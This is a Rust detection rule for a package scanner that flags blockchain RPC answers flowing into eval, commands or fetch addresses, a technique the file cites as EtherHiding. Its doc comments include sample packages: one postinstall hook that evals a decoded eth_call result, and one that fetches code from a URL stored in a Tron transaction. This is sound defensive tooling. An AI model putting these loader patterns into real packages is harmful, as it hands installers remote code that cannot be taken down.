//! # A block chain's answer becomes code or an address
//!
//! What an interface to a block chain answered reaches `eval` and its kin, a command, or the address of the
//! next request, in code that runs by itself.
//!
//! ## Why it matters
//!
//! A contract or a transaction cannot be taken down, so loaders read their next host or stage from there.
//!
//! ## Known benign uses
//!
//! Wallets and explorers ask block chains as their business, when they are called, and show what they get.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "type": "module", "scripts": {"postinstall": "node index.js"}}
//! == index.js
//! const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_call", params: [{ to: "0x00", data: "0x12" }, "latest"] });
//! const answer = await fetch("https://eth.rpc.invalid", { method: "POST", body });
//! const { result } = await answer.json();
//! eval(Buffer.from(result.slice(130), "hex").toString("utf8")); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! (async () => {
//!   const reply = await fetch("https://api.trongrid.io/v1/accounts/T0/transactions?limit=1");
//!   const list = await reply.json();
//!   const next = Buffer.from(list.data[0].raw_data.data, "hex").toString("utf8");
//!   const code = await (await fetch(next)).text(); //~ here
//!   console.log(code.length);
//! })();
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.balanceOf = async (rpc, data) => {
//!   const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_call", params: [data, "latest"] });
//!   const { result } = await (await fetch(rpc, { method: "POST", body })).json();
//!   return BigInt(result);
//! };
//! ```
//!
//! ## References
//!
//! - Google Threat Intelligence: DPRK adopts EtherHiding (October 2025)

use crate::prelude::*;

/// A block chain's answer becomes code or an address.
pub struct ChainReplyToCodeOrAddress;

impl Rule for ChainReplyToCodeOrAddress {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "chain-reply-to-code-or-address",
            title: "A block chain's answer becomes code or an address",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1102.001",
            covers: &["blockchain-c2-contract", "blockchain-c2-transaction", "decentralised-c2"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_source = |source: &Source| matches!(source, Source::Network(_));
        let is_sink =
            |sink: &Sink| matches!(sink, Sink::Code | Sink::Command(_) | Sink::Address | Sink::Network(None));
        for flow in facts.flows(is_source, is_sink).filter(|flow| flow.trigger.runs_unasked()) {
            let Source::Network(host) = &flow.source else { continue };
            let is_chain =
                host.as_ref().is_some_and(|host| host.class() == HostClass::Chain || asks_chain(&host.path));
            let spoken = || asks_chain(&facts.text(&facts.locus(flow.source_spot).file));
            if flow.source_spot != flow.sink_spot && (is_chain || spoken()) {
                found.flow(flow);
            }
        }
    }
}

/// Whether a text names a method of the interfaces of Ethereum, Solana, Tron, Aptos or an explorer.
fn asks_chain(text: &str) -> bool {
    const METHODS: [&str; 9] = [
        "eth_call",
        "eth_getTransactionByHash",
        "eth_getTransactionReceipt",
        "eth_getLogs",
        "eth_getStorageAt",
        "getSignaturesForAddress",
        "action=txlist",
        "/v1/accounts/",
        "wallet/triggerconstantcontract",
    ];
    METHODS.iter().any(|method| text.contains(method))
}
